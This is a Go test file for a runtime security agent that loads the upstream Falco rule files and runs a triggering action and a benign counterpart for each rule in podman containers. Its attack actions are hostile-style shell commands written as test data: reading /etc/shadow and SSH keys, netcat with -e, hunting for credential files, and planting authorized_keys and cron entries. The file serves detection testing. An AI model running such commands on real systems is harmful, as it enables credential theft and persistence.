package main

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/mamori-dev/mamori/internal/podmantest"
	"github.com/mamori-dev/mamori/rules"
	"github.com/mamori-dev/mamori/rules/syscalls"
)

// The tests of this file raise every rule of the three upstream syscall
// files with a real action, in a real podman container or on the host as
// the rule says, under the real agent loaded with the three files (and
// the override below), and do a close benign action that must not raise
// it. docs/rules.md lists them, rule by rule.

// upstreamSyscallFiles are the upstream syscall rules files, loaded
// together as Falco loads them.
var upstreamSyscallFiles = []string{"falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"}

// testOverride is what a user would write to run every upstream rule:
// every rule disabled upstream enabled, and the two template macros and
// lists that make a rule match nothing until they are filled in, filled
// in for the test's containers.
const testOverride = `
- macro: allowed_containers
  condition: (container.image.repository != localhost/mamori-test-disallowed)
  override:
    condition: replace
- list: namespace_scope_network_only_subnet
  items: [mamori-prod]
  override:
    items: append
`

// upstreamAllEnabled returns the paths of the three upstream syscall files
// and of the test's override, written for the test.
func upstreamAllEnabled(t *testing.T) []string {
	t.Helper()
	var paths []string
	var files []rules.File
	for _, n := range upstreamSyscallFiles {
		p := upstreamRules(t, n)
		paths = append(paths, p)
		fs, err := rules.ReadFiles(p)
		if err != nil {
			t.Fatal(err)
		}
		files = append(files, fs...)
	}
	rs, err := rules.Load(rules.Config{Catalogs: []rules.Catalog{syscalls.New()}}, files...)
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	b.WriteString(testOverride)
	for _, r := range rs.Rules() {
		if !r.Enabled {
			fmt.Fprintf(&b, "- rule: %s\n  enabled: true\n  override:\n    enabled: replace\n", r.Name)
		}
	}
	override := filepath.Join(t.TempDir(), "test_override.yaml")
	if err := os.WriteFile(override, []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	return append(paths, override)
}

// An action is something done to raise a rule, or its benign counterpart.
// A marker, unique to the action, goes on the command line of the process
// that acts (or of an ancestor), so that the alerts it raises can be told
// apart from the others'.
type action struct {
	// in is "host", the name of one of the test's containers (see
	// fidelityContainers), or "new": a container the action starts.
	in string
	// sh is a shell script; MARK in it stands for the marker, else the
	// marker is appended as a no-op command.
	sh string
	// argv, instead of sh: a program run directly, without a shell
	// between it and the runtime (MARK as above).
	argv []string
	tty  bool     // podman exec -t
	run  []string // in "new": podman run options
	// image, in "new": another image than the test's.
	image string
	// actor, on the host: a mode of the test binary's actor
	// (actor_test.go), with the marker as its last argument; uid runs it
	// as that user.
	actor string
	uid   int
	// doc, when set, says in docs/rules.md what the action does, in place
	// of its script.
	doc string
}

// ruleCase is one upstream rule: an action that raises it and a close one
// that must not.
type ruleCase struct {
	rule           string
	attack, benign action
}

// fidelityContainers are the long-running containers actions run in.
var fidelityContainers = map[string][]podmantest.Option{
	// Podman's bridge network (10.88.0.0/16), and raw sockets for arping.
	"ctr":  {podmantest.Args("--cap-add", "NET_RAW")},
	"priv": {podmantest.Args("--privileged")},
	"mod":  {podmantest.Args("--cap-add", "SYS_MODULE")},
	// A container of a Kubernetes pod, as the CRI labels say.
	"k8s": {podmantest.Label("io.kubernetes.pod.namespace", "mamori-prod"), podmantest.Label("io.kubernetes.pod.name", "web-0"),
		podmantest.Label("io.kubernetes.container.name", "web")},
}

// containerSetup prepares each container: users the cases act as, and a
// file of secrets.
const containerSetup = `
echo 'nobody:x:65534:65534:nobody:/:/bin/sh' >> /etc/passwd
echo 'www-data:x:33:33:www-data:/var/www:/bin/sh' >> /etc/passwd
echo 'root:*:1::::::' > /etc/shadow
mkdir -p /root/.ssh /var/log /usr/bin /lib && echo key > /root/.ssh/id_rsa && echo data > /tmp/exfil
`

// fixture is what the cases share: their containers, a test host in a
// network namespace, a DNS server that the host's lookups go to, and two
// TCP servers for the class file download.
type fixture struct {
	ctrs      map[string]*podmantest.Container
	actorPath string // the test binary, where other users may run it
	classPort int    // serves a Java class file
	plainPort int    // serves an HTTP response
	hostBin   string // a directory of busybox applets for the host
	netns     string // the test host's network namespace
}

const disallowedImage = "localhost/mamori-test-disallowed:latest"

// names the test's DNS server answers, and their addresses: the
// Kubernetes API server at podman's bridge gateway, a mining pool and a
// benign host at documentation addresses behind the test host.
var testNames = map[string]string{
	"kubernetes.default.svc.cluster.local": "10.88.0.1",
	"pool.minexmr.com":                     "198.51.100.7",
	"benign.example.com":                   "198.51.100.9",
}

func newFixture(t *testing.T, cases []ruleCase) *fixture {
	t.Helper()
	f := &fixture{ctrs: map[string]*podmantest.Container{}}
	for _, c := range cases {
		for _, a := range []action{c.attack, c.benign} {
			if a.in == "host" || a.in == "new" || f.ctrs[a.in] != nil {
				continue
			}
			opts, ok := fidelityContainers[a.in]
			if !ok {
				t.Fatalf("%s: no container %q", c.rule, a.in)
			}
			f.ctrs[a.in] = podmantest.Run(t, opts...)
			podmantest.Exec(t, f.ctrs[a.in], "sh", "-c", containerSetup)
		}
	}
	testHost(t)
	f.netns = testHostNetns()
	dir, err := os.MkdirTemp("", "mamori-fidelity-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	os.Chmod(dir, 0o755)
	f.actorPath = filepath.Join(dir, "mamori-actor")
	if out, err := exec.Command("cp", os.Args[0], f.actorPath).CombinedOutput(); err != nil {
		t.Fatalf("copy the test binary: %v\n%s", err, out)
	}
	f.hostBin = filepath.Join(dir, "bin")
	os.Mkdir(f.hostBin, 0o755)
	for _, applet := range []string{"nc", "nsenter", "nslookup"} {
		os.Symlink("/bin/busybox", filepath.Join(f.hostBin, applet))
	}
	// The image of a container the test's override does not allow.
	if out, err := exec.Command("podman", "tag", podmantest.Image, disallowedImage).CombinedOutput(); err != nil {
		t.Fatalf("podman tag: %v\n%s", err, out)
	}
	t.Cleanup(func() { exec.Command("podman", "untag", podmantest.Image, disallowedImage).Run() })
	f.classPort = serve(t, "\xca\xfe\xba\xbe\x00\x00\x00\x37class file")
	f.plainPort = serve(t, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
	return f
}

// serve answers every TCP connection on loopback with reply, and returns
// its port.
func serve(t *testing.T, reply string) int {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Write([]byte(reply))
			c.Close()
		}
	}()
	return ln.Addr().(*net.TCPAddr).Port
}

// dnsServer answers A queries for testNames on 127.0.0.153:53.
func dnsServer(t *testing.T) string {
	t.Helper()
	const addr = "127.0.0.153:53"
	srv, err := net.ListenPacket("udp", addr)
	if err != nil {
		t.Fatalf("the test's DNS server: %v", err)
	}
	t.Cleanup(func() { srv.Close() })
	go func() {
		buf := make([]byte, 512)
		for {
			n, from, err := srv.ReadFrom(buf)
			if err != nil {
				return
			}
			var p dnsmessage.Parser
			h, err := p.Start(buf[:n])
			if err != nil {
				continue
			}
			q, err := p.Question()
			if err != nil {
				continue
			}
			b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: h.ID, Response: true, Authoritative: true})
			b.StartQuestions()
			b.Question(q)
			b.StartAnswers()
			if ip, ok := testNames[strings.TrimSuffix(q.Name.String(), ".")]; ok && q.Type == dnsmessage.TypeA {
				a := net.ParseIP(ip).To4()
				b.AResource(dnsmessage.ResourceHeader{Name: q.Name, Class: dnsmessage.ClassINET, TTL: 600},
					dnsmessage.AResource{A: [4]byte(a)})
			}
			msg, _ := b.Finish()
			srv.WriteTo(msg, from)
		}
	}()
	return "127.0.0.153"
}

// runCases starts the agent with the three upstream files and the test's
// override, looks the test's names up from the host (the agent learns
// them from the responses), does each case's attack and benign action,
// four at a time, and checks that each attack raised its rule and each
// benign action did not.
func runCases(t *testing.T, cases []ruleCase, agentArgs ...string) {
	t.Helper()
	files := upstreamAllEnabled(t)
	podmantest.Require(t)
	if only := os.Getenv("MAMORI_RULE_CASES"); only != "" {
		// To work on some cases: a regular expression of rule names.
		re := regexp.MustCompile(only)
		var some []ruleCase
		for _, c := range cases {
			if re.MatchString(c.rule) {
				some = append(some, c)
			}
		}
		cases = some
	}
	f := newFixture(t, cases)
	dns := dnsServer(t)
	// --capture-absent-calls: the module rule's insmod attempt, on a
	// kernel that cannot load modules, is what Falco reports there too.
	args := append([]string{"--match-all", "--alert-fold-window", "0", "--capture-absent-calls"}, agentArgs...)
	for _, file := range files {
		args = append(args, "--rules", file)
	}
	a := startAlertingAgent(t, args...)
	for name := range testNames {
		if out, err := exec.Command(filepath.Join(f.hostBin, "nslookup"), name, dns).CombinedOutput(); err != nil {
			t.Fatalf("nslookup %s: %v\n%s", name, err, out)
		}
	}
	var want []expectation
	var wg sync.WaitGroup
	sem := make(chan struct{}, 4)
	for i, c := range cases {
		for j, act := range []action{c.attack, c.benign} {
			marker := fmt.Sprintf("m-%s-%d-%s", strings.ToLower(t.Name()[4:]), i, [...]string{"attack", "benign"}[j])
			want = append(want, expectation{rule: c.rule, marker: marker, alert: j == 0})
			wg.Add(1)
			sem <- struct{}{}
			go func() {
				defer func() { <-sem; wg.Done() }()
				f.do(t, act, marker)
			}()
		}
	}
	wg.Wait()
	checkAlerts(t, a.stop(t), want)
}

// do does an action, its marker on its command line.
func (f *fixture) do(t *testing.T, a action, marker string) {
	mark := func(s string) string {
		s = strings.ReplaceAll(s, "CLASSPORT", strconv.Itoa(f.classPort))
		s = strings.ReplaceAll(s, "PLAINPORT", strconv.Itoa(f.plainPort))
		s = strings.ReplaceAll(s, "NETNS", f.netns)
		return strings.ReplaceAll(s, "MARK", marker)
	}
	script := a.sh
	if strings.Contains(script, "MARK") {
		script = mark(script)
	} else if script != "" {
		script += "\n: " + marker
	}
	var argv []string
	for _, s := range a.argv {
		argv = append(argv, mark(s))
	}
	var cmd *exec.Cmd
	switch {
	case a.actor != "":
		dir, err := os.MkdirTemp("", "mamori-actor-")
		if err != nil {
			t.Error(err)
			return
		}
		defer os.RemoveAll(dir)
		os.Chmod(dir, 0o777)
		cmd = exec.Command(f.actorPath, dir, marker)
		cmd.Env = append(os.Environ(), actorEnv+"="+a.actor)
		if a.uid != 0 {
			cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(a.uid), Gid: uint32(a.uid)}}
			cmd.Dir = "/"
		}
	case a.in == "host":
		cmd = exec.Command("/bin/bash", "-c", "PATH="+f.hostBin+":$PATH\n"+script)
	case a.in == "new":
		name := "mamori-new-" + marker
		args := append([]string{"run", "--rm", "--name", name}, a.run...)
		image := podmantest.Image
		if a.image != "" {
			image = a.image
		}
		args = append(args, image, "sh", "-c", script)
		cmd = exec.Command("podman", args...)
	default:
		args := []string{"exec"}
		if a.tty {
			args = append(args, "-t")
		}
		args = append(args, f.ctrs[a.in].ID)
		if argv != nil {
			args = append(args, argv...)
		} else {
			args = append(args, "sh", "-c", script)
		}
		cmd = exec.Command("podman", args...)
	}
	if out, err := cmd.CombinedOutput(); err != nil {
		// A failing command may be the point (a refused mount, a
		// connection nobody answers): the rule says what must follow.
		t.Logf("%s: %v\n%s", marker, err, out)
	}
}

// busyboxAs runs busybox's applet applet under the process name name: a
// symlink named name, run with argv[0] applet. The kernel names the
// process after the file it ran.
// It runs in a subshell, so that the marker stays on the command line
// of its parent.
func busyboxAs(name, applet, args string) string {
	return fmt.Sprintf("ln -sf /bin/busybox /tmp/%[1]s; (exec -a %[2]s /tmp/%[1]s %[3]s)", name, applet, args)
}

// inboundFrom is a script in which python3 listens on every address,
// has client (a command that runs python3) connect to it at addr, and
// accepts the connection.
func inboundFrom(client, addr string) string {
	return fmt.Sprintf(`python3 -c '
import socket, subprocess, sys
s = socket.socket()
s.bind(("0.0.0.0", 0))
s.listen()
subprocess.run(sys.argv[1].split() + ["-c", "import socket, sys; socket.create_connection((sys.argv[1], int(sys.argv[2])))", sys.argv[2], str(s.getsockname()[1])])
s.accept()
' '%s' %s MARK`, client, addr)
}

// shellAs runs script in a shell whose process name is name.
func shellAs(name, script string) string {
	return busyboxAs(name, "sh", "-c '"+script+"'")
}

// TestUpstreamRulesFalco raises each rule of falco_rules.yaml.
func TestUpstreamRulesFalco(t *testing.T) { runCases(t, falcoRuleCases) }

// TestUpstreamRulesIncubating raises each rule of falco-incubating_rules.yaml.
func TestUpstreamRulesIncubating(t *testing.T) { runCases(t, incubatingRuleCases) }

// TestUpstreamRulesSandbox raises each rule of falco-sandbox_rules.yaml,
// those disabled upstream enabled by the test's override.
func TestUpstreamRulesSandbox(t *testing.T) { runCases(t, sandboxRuleCases) }

// TestUpstreamRulesChangesByKeys raises the upstream rules on removes,
// renames and mkdirs with no policies: policies have the sensor report
// every remove, rename and mkdir in a container (for the guard's
// forensics), so only here is it the keys derived from the rules alone
// that let the calls through the kernel, among them paths relative to the
// working directory. The marker is in each action's last command's
// arguments: the shell runs that one in its stead.
func TestUpstreamRulesChangesByKeys(t *testing.T) {
	runCases(t, changeRuleCases, "--policy", "none")
}

var changeRuleCases = []ruleCase{
	{"Delete or rename shell history",
		action{in: "ctr", sh: "mkdir -p /tmp/MARK && touch /tmp/MARK/.bash_history && /bin/rm /tmp/MARK/.bash_history"},
		action{in: "ctr", sh: "mkdir -p /tmp/MARK && touch /tmp/MARK/notes && /bin/rm /tmp/MARK/notes"}},
	{"Delete or rename shell history",
		action{in: "ctr", sh: "mkdir -p /tmp/MARK && cd /tmp/MARK && touch .zsh_history && /bin/mv .zsh_history MARK"},
		action{in: "ctr", sh: "mkdir -p /tmp/MARK && cd /tmp/MARK && touch notes && /bin/mv notes MARK"}},
	{"Modify binary dirs",
		action{in: "ctr", sh: "echo x > /usr/bin/MARK && cd /usr/bin && /bin/rm MARK"},
		action{in: "ctr", sh: "echo x > /tmp/MARK && cd /tmp && /bin/rm MARK"}},
	{"Modify binary dirs",
		action{in: "ctr", sh: "echo x > /tmp/MARK && /bin/mv /tmp/MARK /usr/bin/MARK"},
		action{in: "ctr", sh: "echo x > /tmp/MARK && /bin/mv /tmp/MARK /tmp/MARK2"}},
	{"Mkdir binary dirs",
		action{in: "ctr", sh: "cd /bin && /bin/mkdir MARK"},
		action{in: "ctr", sh: "cd /tmp && /bin/mkdir MARK"}},
	{"Create Hidden Files or Directories",
		action{in: "ctr", sh: "cd /tmp && touch MARK && /bin/mv MARK .MARK"},
		action{in: "ctr", sh: "cd /tmp && touch MARK && /bin/mv MARK MARK.y"}},
	{"Update Package Repository",
		action{in: "ctr", sh: "mkdir -p /etc/yum.repos.d && echo x > /tmp/MARK.repo && /bin/mv /tmp/MARK.repo /etc/yum.repos.d/MARK.repo"},
		action{in: "ctr", sh: "echo x > /tmp/MARK.repo && /bin/mv /tmp/MARK.repo /tmp/MARK.old"}},
}

var falcoRuleCases = []ruleCase{
	{"Directory traversal monitored file read",
		// A program (not a shell) reads through "../"; the same file read
		// straight is no traversal.
		action{in: "ctr", sh: "/bin/find /etc -maxdepth 0 -exec /bin/cat /etc/../etc/../etc/shadow ';' >/dev/null"},
		action{in: "ctr", sh: "/bin/find /etc -maxdepth 0 -exec /bin/cat /etc/shadow ';' >/dev/null"}},
	{"Read sensitive file trusted after startup",
		// A web server that has run for more than 5 s reads /etc/shadow;
		// one that just started may.
		action{in: "ctr", sh: shellAs("nginx", "sleep 6; read l < /etc/shadow; : MARK")},
		action{in: "ctr", sh: shellAs("nginx", "read l < /etc/shadow; : MARK")}},
	{"Read sensitive file untrusted",
		action{in: "ctr", sh: "/bin/cat /etc/shadow >/dev/null"},
		action{in: "ctr", sh: "read line < /etc/shadow"}},
	{"Run shell untrusted",
		action{in: "ctr", sh: shellAs("nginx", "/bin/sh -c true; : MARK")},
		action{in: "ctr", sh: shellAs("builder", "/bin/sh -c true; : MARK")}},
	{"System user interactive",
		// Below a process named sshd, a command run as nobody; as root it
		// is no system user's.
		action{in: "ctr", sh: shellAs("sshd", "su -s /bin/sh nobody -c /bin/true; : MARK")},
		action{in: "ctr", sh: shellAs("sshd", "/bin/true; : MARK")}},
	{"Terminal shell in container",
		action{in: "ctr", sh: "true", tty: true},
		action{in: "ctr", sh: "true"}},
	{"Contact K8S API Server From Container",
		// The agent learnt the name of 10.88.0.1 from the host's lookup.
		action{in: "ctr", sh: "/bin/nslookup -timeout=1 -retry=1 x 10.88.0.1:443"},
		action{in: "ctr", sh: "/bin/nslookup -timeout=1 -retry=1 x 10.88.0.250:443"}},
	{"Netcat Remote Code Execution in Container",
		action{in: "ctr", sh: "(/bin/nc -l -p 9101 >/dev/null &); sleep 0.3; /bin/nc 127.0.0.1 9101 -e /bin/true"},
		action{in: "ctr", sh: "(/bin/nc -l -p 9102 >/dev/null &); sleep 0.3; echo hi | /bin/nc -w 1 127.0.0.1 9102"}},
	{"Search Private Keys or Passwords",
		action{in: "ctr", sh: "/bin/grep -r 'BEGIN RSA PRIVATE' /etc"},
		action{in: "ctr", sh: "/bin/grep -r nameserver /etc >/dev/null"}},
	{"Clear Log Activities",
		action{in: "ctr", sh: "echo x > /var/log/appMARK.log"},
		action{in: "ctr", sh: "echo x >> /var/log/appMARK.log"}},
	{"Remove Bulk Data from Disk",
		action{in: "ctr", sh: "echo x > /tmp/junkMARK; /bin/shred -u /tmp/junkMARK"},
		action{in: "ctr", sh: "echo x > /tmp/junkMARK; /bin/rm /tmp/junkMARK"}},
	{"Create Symlink Over Sensitive Files",
		action{in: "ctr", sh: "/bin/ln -s /etc/shadow /tmp/sMARK"},
		action{in: "ctr", sh: "/bin/ln -s /etc/hostname /tmp/sMARK"}},
	{"Create Hardlink Over Sensitive Files",
		action{in: "ctr", sh: "/bin/ln /etc/shadow /tmp/hMARK"},
		action{in: "ctr", sh: "echo > /tmp/pMARK; /bin/ln /tmp/pMARK /tmp/hMARK"}},
	{"Packet socket created in container",
		action{in: "ctr", sh: "/bin/arping -c 1 -w 1 -I eth0 10.88.0.1"},
		action{in: "ctr", sh: "/bin/ping -c 1 -W 1 127.0.0.1"}},
	{"Redirect STDOUT/STDIN to Network Connection in Container",
		action{in: "ctr", sh: "(/bin/nc -l -p 9103 >/dev/null &); sleep 0.3; /bin/nc 127.0.0.1 9103 -e /bin/true"},
		action{in: "ctr", sh: "exec 3>/tmp/dMARK; exec 1>&3"}},
	{"Linux Kernel Module Injection Detected",
		// The image is no module, and the kernel refuses it: the attempt
		// with CAP_SYS_MODULE is what the rule is about.
		action{in: "mod", sh: "echo junk > /tmp/mMARK.ko; /bin/insmod /tmp/mMARK.ko"},
		action{in: "ctr", sh: "echo junk > /tmp/mMARK.ko; /bin/insmod /tmp/mMARK.ko"}},
	{"Debugfs Launched in Privileged Container",
		action{in: "priv", sh: busyboxAs("debugfs", "true", "")},
		action{in: "ctr", sh: busyboxAs("debugfs", "true", "")}},
	{"Detect release_agent File Container Escapes",
		action{in: "priv", sh: "echo x > /tmp/release_agent"},
		action{in: "ctr", sh: "echo x > /tmp/release_agent"}},
	{"PTRACE attached to process",
		action{in: "host", actor: "ptrace-attach"},
		action{in: "host", actor: "ptrace-peek"}},
	{"PTRACE anti-debug attempt",
		action{in: "host", actor: "traceme"},
		action{in: "host", actor: "ptrace-peek"}},
	{"Find AWS Credentials",
		action{in: "ctr", sh: "/bin/find /root -path '*/.aws/credentials'"},
		action{in: "ctr", sh: "/bin/find /etc -name hosts >/dev/null"}},
	{"Execution from /dev/shm",
		// On the host: podman mounts a container's /dev/shm noexec.
		action{in: "host", sh: "cp /bin/true /dev/shm/MARK && /dev/shm/MARK; rm -f /dev/shm/MARK"},
		action{in: "host", sh: "d=$(mktemp -d) && cp /bin/true $d/MARK && $d/MARK; rm -rf $d"}},
	{"Drop and execute new binary in container",
		action{in: "ctr", sh: "mkdir -p /tmp/MARK && cp /bin/busybox /tmp/MARK/true && /tmp/MARK/true"},
		action{in: "ctr", sh: "/bin/true"}},
	{"Disallowed SSH Connection Non Standard Port",
		// To the test host, a documentation address the rule does not
		// take for a local one.
		action{in: "host", sh: "ssh -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -p 4444 MARK@198.51.100.7 true"},
		action{in: "host", sh: "ssh -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -p 22 MARK@198.51.100.7 true"}},
	{"Fileless execution via memfd_create",
		action{in: "host", actor: "memfd-exec"},
		action{in: "host", actor: "deleted-exec"}},
}

var incubatingRuleCases = []ruleCase{
	{"Modify Shell Configuration File",
		action{in: "ctr", sh: "mkdir -p /home/MARK && echo x > /tmp/MARK && /bin/cp /tmp/MARK /home/MARK/.bashrc"},
		action{in: "ctr", sh: "mkdir -p /home/MARK && echo x > /tmp/MARK && /bin/cp /tmp/MARK /home/MARK/notes"}},
	{"Schedule Cron Jobs",
		action{in: "ctr", sh: "mkdir -p /etc/cron.d && echo x > /etc/cron.d/MARK"},
		action{in: "ctr", sh: "echo x > /tmp/cron-MARK"}},
	{"Read ssh information",
		action{in: "ctr", sh: "/bin/cat /root/.ssh/id_rsa >/dev/null"},
		action{in: "ctr", sh: "/bin/cat /etc/hostname >/dev/null"}},
	{"DB program spawned process",
		action{in: "ctr", sh: shellAs("mysqld", "/bin/true; : MARK")},
		action{in: "ctr", sh: shellAs("appd", "/bin/true; : MARK")}},
	{"Change thread namespace",
		// nsenter is expected on the host, not in a container.
		action{in: "priv", sh: "/bin/nsenter -t 1 -n /bin/true"},
		action{in: "host", sh: "nsenter -t 1 -n /bin/true"}},
	{"Change namespace privileges via unshare",
		// Without CAP_SYS_ADMIN (the kernel refuses it, which is no
		// matter); into a new user namespace, where the process has all
		// capabilities, it is expected.
		action{in: "ctr", sh: "/bin/unshare -m /bin/true"},
		action{in: "ctr", sh: "/bin/unshare -U /bin/true"}},
	{"Launch Privileged Container",
		action{in: "new", run: []string{"--privileged"}, sh: "true"},
		action{in: "new", sh: "true"}},
	{"Launch Excessively Capable Container",
		action{in: "new", run: []string{"--cap-add", "SYS_ADMIN"}, sh: "true"},
		action{in: "new", sh: "true"}},
	{"System procs network activity",
		// A program named cat (a coreutils name) opens a UDP socket to the
		// bridge's gateway (busybox's nslookup connects a UDP socket to
		// the server it is given); nslookup doing the same is no system
		// program.
		action{in: "ctr", sh: busyboxAs("cat", "nslookup", "-timeout=1 -retry=1 x 10.88.0.1:9999")},
		action{in: "ctr", sh: "/bin/nslookup -timeout=1 -retry=1 x 10.88.0.1:9999"}},
	{"Program run with disallowed http proxy env",
		action{in: "ctr", sh: "HTTP_PROXY=http://127.0.0.1:9 /bin/wget -q -T 1 -O /dev/null http://127.0.0.1:9/"},
		action{in: "ctr", sh: "/bin/wget -q -T 1 -O /dev/null http://127.0.0.1:9/"}},
	{"Unexpected UDP Traffic",
		action{in: "ctr", sh: "/bin/nslookup -timeout=1 -retry=1 x 10.88.0.1:9999"},
		action{in: "ctr", sh: "/bin/nslookup -timeout=1 -retry=1 x 10.88.0.1:53"}},
	{"Non sudo setuid",
		// On the host, as the daemon user; root (and nobody becoming
		// nobody) are expected.
		action{in: "host", actor: "setuid-self", uid: 1},
		action{in: "host", actor: "setuid-self"}},
	{"User mgmt binaries",
		action{in: "host", sh: "useradd --help >/dev/null"},
		action{in: "host", sh: "passwd -S root >/dev/null"}},
	{"Create files below dev",
		action{in: "ctr", sh: "echo x > /dev/MARK"},
		action{in: "ctr", sh: "echo x > /dev/null"}},
	{"Contact EC2 Instance Metadata Service From Container",
		action{in: "ctr", sh: "/bin/nslookup -timeout=1 -retry=1 x 169.254.169.254:80"},
		action{in: "ctr", sh: "/bin/nslookup -timeout=1 -retry=1 x 10.88.0.1:80"}},
	{"Contact cloud metadata service from container",
		action{in: "ctr", sh: "/bin/nslookup -timeout=1 -retry=1 x 169.254.169.254:80"},
		action{in: "ctr", sh: "/bin/nslookup -timeout=1 -retry=1 x 10.88.0.1:80"}},
	{"Launch Package Management Process in Container",
		action{in: "ctr", sh: "/bin/dpkg -l >/dev/null"},
		action{in: "ctr", sh: "/bin/true"}},
	{"Launch Suspicious Network Tool in Container",
		action{in: "ctr", sh: "/bin/nc -h"},
		action{in: "ctr", sh: "/bin/true"}},
	{"Launch Suspicious Network Tool on Host",
		action{in: "host", sh: "nc -h"},
		action{in: "host", sh: "/bin/true"}},
	{"Delete or rename shell history",
		action{in: "ctr", sh: "mkdir -p /tmp/MARK && touch /tmp/MARK/.bash_history && /bin/rm /tmp/MARK/.bash_history"},
		action{in: "ctr", sh: "mkdir -p /tmp/MARK && touch /tmp/MARK/notes && /bin/rm /tmp/MARK/notes"}},
	{"Set Setuid or Setgid bit",
		action{in: "ctr", sh: "touch /tmp/MARK; /bin/chmod u+s /tmp/MARK"},
		action{in: "ctr", sh: "touch /tmp/MARK; /bin/chmod 755 /tmp/MARK"}},
	{"Launch Remote File Copy Tools in Container",
		action{in: "ctr", sh: busyboxAs("scp", "true", "")},
		action{in: "ctr", sh: "/bin/true"}},
	{"Network Connection outside Local Subnet",
		// In a pod of a namespace the test's override names, to an
		// address outside the local subnets.
		action{in: "k8s", sh: "/bin/nslookup -timeout=1 -retry=1 x 198.51.100.7:53"},
		action{in: "k8s", sh: "/bin/nslookup -timeout=1 -retry=1 x 10.88.0.1:53"}},
	{"Mount Launched in Privileged Container",
		action{in: "priv", sh: "mkdir -p /mnt/MARK && /bin/mount -t tmpfs none /mnt/MARK && /bin/umount /mnt/MARK"},
		action{in: "priv", sh: "/bin/mount >/dev/null"}},
	{"Launch Ingress Remote File Copy Tools in Container",
		action{in: "ctr", sh: "/bin/wget -q -T 1 -O /dev/null http://127.0.0.1:9/"},
		action{in: "ctr", sh: "/bin/true"}},
	{"Read environment variable from /proc files",
		action{in: "ctr", sh: "/bin/cat /proc/1/environ >/dev/null"},
		action{in: "ctr", sh: "/bin/cat /proc/1/status >/dev/null"}},
	{"Exfiltrating Artifacts via Kubernetes Control Plane",
		// tar run by the runtime, as kubectl cp runs it; under a shell it
		// is the container's own work.
		action{in: "ctr", argv: []string{"tar", "cf", "/dev/null", "/tmp/exfil", "/tmp/MARK"}},
		action{in: "ctr", sh: "tar cf /dev/null /tmp/exfil"}},
	{"Adding ssh keys to authorized_keys",
		action{in: "ctr", sh: "echo key > /tmp/MARK && /bin/cp /tmp/MARK /root/.ssh/authorized_keys"},
		action{in: "ctr", sh: "echo key > /tmp/MARK && /bin/cp /tmp/MARK /root/.ssh/MARK.pub"}},
	{"Potential Local Privilege Escalation via Environment Variables Misuse",
		action{in: "ctr", sh: "GLIBC_TUNABLES=glibc.malloc.check=3 /bin/true"},
		action{in: "ctr", sh: "MALLOC_CHECK_=3 /bin/true"}},
	{"Backdoored library loaded into SSHD (CVE-2024-3094)",
		action{in: "ctr", sh: "touch /tmp/liblzma.so.5.6.1; " + shellAs("sshd", "read l < /tmp/liblzma.so.5.6.1; : MARK")},
		action{in: "ctr", sh: "touch /tmp/liblzma.so.5.4.1; " + shellAs("sshd", "read l < /tmp/liblzma.so.5.4.1; : MARK")}},
	{"BPF Program Not Profiled",
		action{in: "host", actor: "bpf-prog-load"},
		action{in: "host", actor: "bpf-map-create"}},
}

var sandboxRuleCases = []ruleCase{
	{"Unexpected inbound connection source",
		// A listener on every address accepts a connection from the test
		// host; one from the host's own podman bridge address (in
		// 10.0.0.0/8, a network the rule allows) is expected.
		action{in: "host", sh: inboundFrom("ip netns exec NETNS python3", "198.51.100.1"),
			doc: "python3 listening on every address accepts a connection from the test host (198.51.100.7)"},
		action{in: "host", sh: inboundFrom("python3", "10.88.0.1"),
			doc: "the same listener accepts a connection from the host's own bridge address (10.88.0.1)"}},
	{"Read Shell Configuration File",
		action{in: "ctr", sh: "mkdir -p /home/MARK && echo x > /home/MARK/.bashrc && /bin/cat /home/MARK/.bashrc >/dev/null"},
		action{in: "ctr", sh: "mkdir -p /home/MARK && echo x > /home/MARK/.bashrc && read l < /home/MARK/.bashrc"}},
	{"Update Package Repository",
		action{in: "ctr", sh: "mkdir -p /etc/apt/sources.list.d && echo deb > /etc/apt/sources.list.d/MARK.list"},
		action{in: "ctr", sh: "mkdir -p /etc/apt/sources.list.d && " + shellAs("dpkg", "echo deb > /etc/apt/sources.list.d/MARK.list")}},
	{"Write below binary dir",
		action{in: "ctr", sh: "echo x > /bin/MARK"},
		action{in: "ctr", sh: "echo x > /tmp/MARK"}},
	{"Write below monitored dir",
		action{in: "ctr", sh: "echo x > /lib/MARK"},
		action{in: "ctr", sh: "echo x > /tmp/MARK"}},
	{"Write below etc",
		action{in: "ctr", sh: "echo x > /etc/MARK"},
		action{in: "ctr", sh: "echo x > /etc/motd"}},
	{"Write below root",
		action{in: "ctr", sh: "echo x > /MARK"},
		// A write to stdout through /proc/self/fd/1 is no write below /.
		action{in: "ctr", sh: "echo x > /proc/self/fd/1; echo x > /tmp/MARK"}},
	{"Write below rpm database",
		action{in: "ctr", sh: "mkdir -p /var/lib/rpm && echo x > /var/lib/rpm/MARK"},
		action{in: "ctr", sh: "mkdir -p /var/lib/rpm && " + shellAs("rpm", "echo x > /var/lib/rpm/MARK")}},
	{"Modify binary dirs",
		action{in: "ctr", sh: "echo x > /bin/MARK && /bin/mv /bin/MARK /bin/MARK2"},
		action{in: "ctr", sh: "echo x > /tmp/MARK && /bin/mv /tmp/MARK /tmp/MARK2"}},
	{"Mkdir binary dirs",
		action{in: "ctr", sh: "/bin/mkdir /bin/MARK"},
		action{in: "ctr", sh: "/bin/mkdir /tmp/MARK"}},
	{"Launch Sensitive Mount Container",
		action{in: "new", run: []string{"-v", "/etc:/hostetc:ro"}, sh: "true"},
